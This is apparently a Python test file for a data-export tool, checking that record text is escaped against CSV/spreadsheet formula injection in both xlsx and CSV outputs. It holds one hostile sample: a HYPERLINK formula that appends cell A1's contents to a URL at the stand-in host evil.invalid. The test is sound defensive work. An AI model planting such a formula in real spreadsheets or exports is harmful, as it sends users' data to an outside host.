"""Record text never becomes a spreadsheet formula (CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from spotcheck import yamlio
from spotcheck.exports.cells import csv_text
from spotcheck.exports.opendata import write_opendata
from spotcheck.exports.tasksheet import SHEET, write_tasksheet
from spotcheck.records import load
from spotcheck.schemas import SchemaSet
from tests.results.fixture_repo import TASK, fresh_repo, selected

HOSTILE = '=HYPERLINK("http://evil.invalid/?x="&A1,"点我")'


def test_csv_text_disarms_formulas() -> None:
    assert csv_text("=1+1") == "'=1+1"
    assert csv_text("@SUM(A1)") == "'@SUM(A1)"
    assert csv_text("-2") == "'-2"
    assert csv_text("花都区某某公司") == "花都区某某公司"
    assert csv_text(12) == 12


def test_hostile_business_name_stays_text(tmp_path: Path) -> None:
    root, draws = fresh_repo(tmp_path)
    target = selected(draws[TASK])[0]
    for path in (root / "records" / "targets").rglob("*.yaml"):
        data = yamlio.parse(path.read_text(encoding="utf-8"), str(path))
        for record in data:
            if record["uscc"] == target:
                record["name"] = HOSTILE
        path.write_text(yamlio.dump(data), encoding="utf-8")
    records = load(root, use_cache=False)
    sheet_path = write_tasksheet(records, SchemaSet(), TASK, tmp_path / "sheet.xlsx")
    sheet = load_workbook(sheet_path)[SHEET]
    cells = [c for row in sheet.iter_rows() for c in row if c.value == HOSTILE]
    assert cells and all(c.data_type == "s" for c in cells)
    out = tmp_path / "open"
    write_opendata(records, SchemaSet(), out)
    rows = list(csv.DictReader(io.StringIO((out / "target.csv").read_bytes().decode("utf-8-sig"))))
    names = [r["name"] for r in rows if r["uscc"] == target]
    assert names == ["'" + HOSTILE]
